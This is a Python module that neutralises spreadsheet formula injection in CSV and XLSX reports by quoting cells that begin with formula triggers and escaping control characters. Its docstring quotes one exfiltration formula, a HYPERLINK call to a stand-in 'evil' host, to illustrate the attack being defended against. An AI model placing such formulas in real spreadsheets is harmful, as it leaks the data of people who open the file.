"""Keep spreadsheet cells inert: the formula-injection guard shared by CSV and XLSX.

A snapshot is typed by people, and every value of it can reach a report (a coordinator's
name, a unit, an id, a bad value quoted in an input problem). A spreadsheet program
treats a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, after a tab or
carriage return, the same) as a formula, so ``=HYPERLINK("http://evil/?"&A1)`` in
the input would run when an auditor opens the CSV. Following OWASP's advice on CSV
injection, such text is prefixed with a single quote, which every spreadsheet shows
as text. The full-width forms (``＝ ＋ － ＠``) are included because some locales'
input methods turn them into formulas too. Real numbers are numbers, not text, and
are left alone: ``-2`` as a number is fine.
"""

from __future__ import annotations

import re

__all__ = ["FORMULA_TRIGGERS", "neutralise", "xlsx_text"]

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")

# XML 1.0 forbids the C0 controls but tab and line ends (openpyxl refuses them, IllegalCharacterError; in a
# workbook Excel calls it corrupt) and U+FFFE/U+FFFF; DEL and C1 are legal but act like C0 where the text goes
_UNSAFE = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ufffe\uffff]")
XLSX_MAX_TEXT = 32_767  # Excel's limit on one cell's text


def neutralise(text: str) -> str:
    """``text`` with a leading ``'`` when a spreadsheet would read it as a formula, else unchanged."""
    if text and text.startswith(FORMULA_TRIGGERS):
        return "'" + text
    return text


def _unsafe(match: re.Match[str]) -> str:
    ch = match.group()
    return "\ufffd" if ch in "\ufffe\uffff" else f"\\x{ord(ch):02x}"


def xlsx_text(text: str) -> str:
    """``text`` made safe for an XLSX string cell: neutralised, XML-legal and within Excel's length limit.

    A control character is shown as its escape (``\\x1b``, as in every other output: the
    value stays visible and the workbook valid); the two non-characters U+FFFE/U+FFFF
    become U+FFFD. Line breaks become ``\n`` (after neutralising, so a leading CR still
    gets its quote): a bare CR does not survive XML parsing, and ``\n`` is what
    spreadsheets break lines on.
    """
    if _UNSAFE.search(text) is not None:
        text = _UNSAFE.sub(_unsafe, text)
    text = neutralise(text)
    if "\r" in text:
        text = text.replace("\r\n", "\n").replace("\r", "\n")
    if len(text) > XLSX_MAX_TEXT:
        text = text[: XLSX_MAX_TEXT - 1] + "…"
    return text
